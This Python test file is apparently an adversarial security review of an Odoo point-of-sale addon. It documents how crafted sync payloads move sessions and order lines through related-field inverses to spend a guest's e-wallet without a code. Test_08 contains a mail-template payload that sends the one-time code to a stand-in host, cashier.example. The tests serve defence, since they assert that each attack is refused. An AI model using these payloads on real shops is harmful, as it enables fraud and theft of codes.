# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Review 54 (adversarial): fields of the sync payload that write through
related fields, under the sync's trusted mark.

- `pos.order.config_id` is stock's `related="session_id.config_id",
  readonly=False, store=True`. The addon pops only its own server fields
  from the payload (`SERVER_FIELDS`) and checks that the payload's session
  is open and readable; `config_id` rides along. Stock's `create` (or
  `write` of an existing draft) then runs the related field's inverse,
  `session.config_id = <payload's center>`, inside the sync's
  `trusted.mark`, past `pos.session.write`'s guard ("never sets its
  center"). The cashier's open session now belongs to the center the
  payload named, and the order is judged by that center's settings
  (`pos.order.line._redeem_otp_protected` reads `order.config_id`): a
  salon's center with codes switched off (a boutique corner, any center
  without an open session) spends the guest's protected e-wallet with no
  code, from the front desk's till (test_01). The session move alone
  breaks the front desk's till and books its orders and cash at another
  center (test_02).
- `pos.pack.operation.lot.order_id` is stock's `related=
  "pos_order_line_id.order_id", readonly=False`. `payloads.LINE_LISTS`
  accepts new lot rows in a line (`pack_lot_ids: (0, ...)`) with any flat
  values: a lot row carrying `order_id` of another, paid order moves its
  new line there by the related inverse, under the sync's trust (review
  27 fixed the line's own `order_id` only). test_03 shows the move; test_04
  turns it into credit: a top-up line moved into a paid 300.00 service sale
  before its points call is credited 300.00 by a sale that paid 300.00 in
  all (the sync's check of lines against the total ran before the move).

The fix refuses, in the sync, every value of a field that writes another
record (an inverse), at any depth, as the POS never sends one (test_07:
what it does send still syncs), and a cashier's plain writes of such fields
on an order (test_06) or a session. test_05 keeps the center's currency out
of a session's write (this install gives the session's currency no inverse:
it passes either way).

Same rules as the other attack tests (tests/attack_common.py): a real POS
user over JSON-RPC, and each test asserts what the guest or the salon would
lose. Only the set-up uses the superuser.
"""

from odoo.tests import tagged

from .test_attacks_review21 import Review21Case


@tagged("post_install", "-at_install")
class TestReview54(Review21Case):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # A center of the same salon where the managers switched codes off
        # (a boutique corner selling products only), no session open there.
        cls.off_config = cls.env["pos.config"].create(
            {"name": "Boutique corner", "redeem_otp_required": False}
        )

    # -- helpers ---------------------------------------------------------
    def line_with_lot_into(self, target, price):
        """A draft of the cashier's whose new top-up line carries a lot row
        naming `target` as its order."""
        line = self.product_line(self.topup, price)
        line[2]["pack_lot_ids"] = [[0, 0, {"lot_name": "LOT-1", "order_id": target.id}]]
        data = self.order_data([line], partner=self.accomplice)
        data.update(state="draft", payment_ids=[], amount_paid=0.0)
        self.sync(data)
        self.env.invalidate_all()

    # -- H1: the payload's center ------------------------------------------
    def test_01_payload_center_without_codes_spends_the_guest_credit(self):
        before = self.snapshot()
        card = self.ewallet_card
        data = self.order_data(self.spending_lines(card, 100.0))
        data["config_id"] = self.off_config.id
        data["pricelist_id"] = self.off_config.pricelist_id.id
        order = self.sync(data)
        if isinstance(order, int):
            self.confirm(order, {card.id: self.coupon_vals(card, -100.0)})
        self.env.invalidate_all()
        self.assertEqual(
            card.points,
            150.0,
            "the front desk's sync named the codes-off center as the order's "
            "config_id: the guest's e-wallet paid 100.00 with no code",
        )
        self.assertNothingLost(before)
        self.assertNoUnauthorizedPaidOrder()

    def test_02_payload_center_moves_the_open_session(self):
        session = self.pos_session
        data = self.order_data([self.product_line()], partner=self.accomplice)
        data["config_id"] = self.off_config.id
        data["pricelist_id"] = self.off_config.pricelist_id.id
        self.sync(data)
        self.env.invalidate_all()
        self.assertEqual(
            session.config_id,
            self.config,
            "a sync moved the front desk's open session to "
            f"{session.config_id.name} (README: a cashier never sets a "
            "session's center)",
        )
        self.assertEqual(self.config.current_session_id, session)

    # -- H2: a lot row's order ---------------------------------------------
    def test_03_lot_row_moves_its_line_into_a_paid_order(self):
        sale = self.paid_top_up()
        lines_before = sale.lines
        self.line_with_lot_into(sale, 1000.0)
        self.assertEqual(
            sale.lines,
            lines_before,
            "a new line's lot row carried order_id: the line moved into the "
            f"paid order {sale.name}",
        )

    def test_04_lot_moved_top_up_is_credited_by_a_service_sale(self):
        """The accomplice pays 300.00 for a service; before that order's
        points call, a 300.00 top-up line is moved into it by a lot row. The
        sale's lines now come to 600.00 for 300.00 paid (the sync's check of
        lines against the total ran before the move), and each program's
        earning bound is capped by the same 300.00: the e-wallet is credited
        300.00 beside the service's loyalty points."""
        card, loyal = self.accomplice_card, self.accomplice_loyalty
        start = card.points
        sale = self.sync(
            self.order_data(
                [self.product_line(self.service, 300.0)], partner=self.accomplice
            )
        )
        self.assertIsInstance(sale, int, sale)
        sale = self.env["pos.order"].browse(sale)
        self.line_with_lot_into(sale, 300.0)
        self.confirm(
            sale.id,
            {
                card.id: self.coupon_vals(card, 300.0),
                loyal.id: self.coupon_vals(loyal, 300.0),
            },
        )
        self.env.invalidate_all()
        self.assertEqual(
            card.points,
            start,
            "a 300.00 service paid in cash credited the accomplice's e-wallet "
            f"with {card.points - start:.2f} (a top-up line moved into the paid "
            "sale by a lot row's order_id)",
        )

    # -- the same door by a cashier's plain writes --------------------------
    def test_05_session_currency_writes_the_center_currency(self):
        other = (
            self.env["res.currency"]
            .with_context(active_test=False)
            .search([("id", "!=", self.config.currency_id.id)], limit=1)
        )
        currency = self.config.currency_id
        result = self.attempt(
            "pos.session", "write", self.pos_session.ids, {"currency_id": other.id}
        )
        self.env.invalidate_all()
        self.assertEqual(
            self.config.currency_id,
            currency,
            f"a cashier's write of the session's currency ({result}) changed the "
            "center's",
        )

    def test_06_draft_order_operation_type_writes_the_center(self):
        data = self.order_data([self.product_line()], partner=self.accomplice)
        data.update(state="draft", payment_ids=[], amount_paid=0.0)
        order = self.sync(data)
        self.assertIsInstance(order, int, order)
        picking_type = self.config.picking_type_id
        other = self.env["stock.picking.type"].search(
            [("id", "!=", picking_type.id)], limit=1
        )
        result = self.attempt(
            "pos.order", "write", [order], {"picking_type_id": other.id}
        )
        self.env.invalidate_all()
        self.assertTrue(self.refused(result), result)
        self.assertEqual(
            self.config.picking_type_id,
            picking_type,
            "a cashier's write of a draft order's operation type changed the center's",
        )

    def test_07_the_pos_own_payload_still_syncs(self):
        """No related or computed field in what the POS sends: a plain sale,
        with a lot row as the POS makes it, is saved."""
        line = self.product_line(self.service, 300.0)
        line[2]["pack_lot_ids"] = [[0, 0, {"lot_name": "LOT-1"}]]
        order = self.sync(self.order_data([line], partner=self.accomplice))
        self.assertIsInstance(order, int, order)
        self.assertEqual(
            self.env["pos.order"].browse(order).lines.pack_lot_ids.mapped("lot_name"),
            ["LOT-1"],
        )

    # -- the addon's mails, once any employee may edit templates ------------
    def test_08_cashier_edits_the_code_mail(self):
        """With "Restrict Template Rendering" off, Odoo makes every employee
        a template editor: the code's mail would carry the code wherever the
        cashier writes it."""
        self.env["ir.config_parameter"].set_param(
            "mail.restrict.template.rendering", False
        )
        self.assertTrue(self.pos_user.has_group("mail.group_mail_template_editor"))
        code_mail = self.env.ref("salon_otp_redeem.mail_template_redeem_code")
        alert = self.env.ref("salon_otp_redeem.mail_template_contact_changed")
        body, alert_body = code_mail.body_html, alert.body_html
        leak = "<img src=\"https://cashier.example/{{ ctx.get('code') }}\"/>"
        results = [
            self.attempt("mail.template", "write", code_mail.ids, {"body_html": leak}),
            self.attempt("mail.template", "write", alert.ids, {"body_html": "<p/>"}),
            self.attempt(
                "mail.template",
                "update_field_translations",
                code_mail.ids,
                "body_html",
                {"fr_FR": leak},
            ),
            self.attempt("mail.template", "unlink", alert.ids),
        ]
        self.env.invalidate_all()
        self.assertTrue(all(map(self.refused, results)), results)
        self.assertEqual(code_mail.body_html, body)
        self.assertEqual(alert.exists().body_html, alert_body)
        # Stock's own templates stay the editors' to change.
        other = self.env["mail.template"].search(
            [("id", "not in", (code_mail | alert).ids)], limit=1
        )
        result = self.attempt("mail.template", "write", other.ids, {"subject": "Hi"})
        self.assertFalse(self.refused(result), result)
